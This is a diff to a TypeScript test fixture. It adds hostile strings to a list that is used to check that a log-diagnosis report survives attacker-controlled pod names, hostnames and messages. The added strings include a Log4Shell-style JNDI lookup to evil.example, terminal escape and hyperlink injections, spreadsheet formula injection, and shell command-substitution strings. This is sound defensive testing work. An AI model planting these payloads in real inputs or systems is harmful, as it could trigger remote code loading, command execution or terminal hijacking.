@@ -36,7 +36,26 @@ export const ATTACKS: readonly string[] = [
   '\u009b31m \u202egnp.exe \u2066x\u2069 a\u200bb',
   '\u0000\u0008\u007f end',
   'half a pair \ud800, \ufffe',
+  'other half \udc00 end',
+  'link \u001b]8;;https://evil.example/e\u0007click\u001b]8;;\u0007 end',
+  'title \u001b]0;owned\u001b\\ clear \u001b[2J\u001b[H end',
+  'nul \u0000 in \u0000 it',
+  'lines \u2028 and \u2029 \u0085 end',
+  'back \r over \u0008\u0008 it',
+  '\t@SUM(1+1)*cmd|x, "a";b',
+  '+1-1=|<>&^%PATH%!x!',
+  '`id` $(id) ${IFS}; | && || > /tmp/x < /dev/null',
+  '{{.Values}} ${jndi:ldap://evil.example/f} %x %n',
 ]
+
+/** Can a line of a log have it whole? Links of terminals are taken out of a line, and a name in it ends at any line break. */
+export function isOfLine(attack: string): boolean {
+  // oxlint-disable-next-line no-control-regex -- ESC is what this is about
+  return !/\u001b\]|[\r\u2028\u2029]/.test(attack)
+}
+
+/** Longer than any name, and than what is kept of a line. */
+export const ENDLESS = `long ${'x'.repeat(70_000)} end`
 
 const RULES = [
   seen(
@@ -49,9 +68,10 @@ const RULES = [
   seen('disk-cleaned', { role: 'lifecycle' }),
 ]
 
-/** Strangers wrote what is in it. */
+/** Strangers wrote what is in it: names of pods, messages, and of each attack a node and a file that are called so. */
 export async function hostileReport(): Promise<Report> {
-  const lines = ATTACKS.flatMap((attack, index) => {
+  const attacks = [...ATTACKS, ENDLESS]
+  const lines = attacks.flatMap((attack, index) => {
     const time = `12:${String(index).padStart(2, '0')}:00`
     return [at(time, `pod crash of ${attack}`), at(time, `pod backoff of ${attack}`), at(time, `what is ${attack}`)]
   })
@@ -59,6 +79,15 @@ export async function hostileReport(): Promise<Report> {
   await diagnosis.read('logs/<b>"a" [x](y).log', lines, new LineLimiter(), {})
   const bare = 'E0602 12:00:00.000000       7 kettle.go:7] disk full'
   await diagnosis.read('b', [bare], new LineLimiter(), { node: '<i>"n`]|\\', year: 2024 })
+  for (const attack of attacks) {
+    const entry = {
+      _HOSTNAME: attack,
+      SYSLOG_IDENTIFIER: 'kubelet',
+      MESSAGE: bare,
+      __REALTIME_TIMESTAMP: '1717329600000000',
+    }
+    await diagnosis.read(`logs/${attack}`, [JSON.stringify(entry)], new LineLimiter(), {})
+  }
   return diagnosis.report()
 }
 
